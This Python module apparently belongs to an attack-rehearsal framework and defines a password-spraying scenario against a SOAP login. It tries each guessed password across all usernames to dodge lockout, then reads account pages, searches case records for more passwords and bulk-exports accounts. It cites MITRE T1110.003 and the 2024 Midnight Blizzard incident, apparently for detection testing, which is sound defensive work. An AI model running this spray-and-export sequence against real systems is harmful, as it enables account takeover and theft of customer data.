"""Password spraying by SOAP login: a few likely passwords on many users."""

from tasks.rehearsal.model import Attack, Caller, Gain, Layer, Refused, Step
from tasks.rehearsal.moves import LOOKING_ROUND, hunt_secrets, take_all, take_page


def spray(caller: Caller) -> Gain:
    """One password after the other on all users, as sprayers do, so that no account is locked."""
    last = Refused(None, "NOTHING_TO_TRY")
    for number, guess in enumerate(caller.loot.guesses, 1):
        for username in caller.loot.usernames:
            try:
                caller.guess(username, guess.get_secret_value())
            except Refused as refused:
                last = refused
            else:
                return Gain(f"a session of one of {len(caller.loot.usernames)} users by guess {number}")
    raise last


def read_a_page(caller: Caller) -> Gain:
    return take_page(caller, "Account", "Id, Name, Phone")


def hunt(caller: Caller) -> Gain:
    return hunt_secrets(caller, "Case", "Subject")


def export_accounts(caller: Caller) -> Gain:
    return take_all(caller, "Account", "Id, Name, Phone")


ATTACK = Attack(
    "password-spray",
    "Password spraying by SOAP login",
    (
        Step("Try likely passwords from abroad", spray),
        Step("Read a first page", read_a_page),
        Step("Search cases for more passwords", hunt),
        Step("Export every account in bulk", export_accounts, after=LOOKING_ROUND),
    ),
    incident="Midnight Blizzard, 2024: low and slow guesses until one account without a second factor opened",
    technique="T1110.003",
    layers=(Layer.NETWORK, Layer.DETECTION),
)
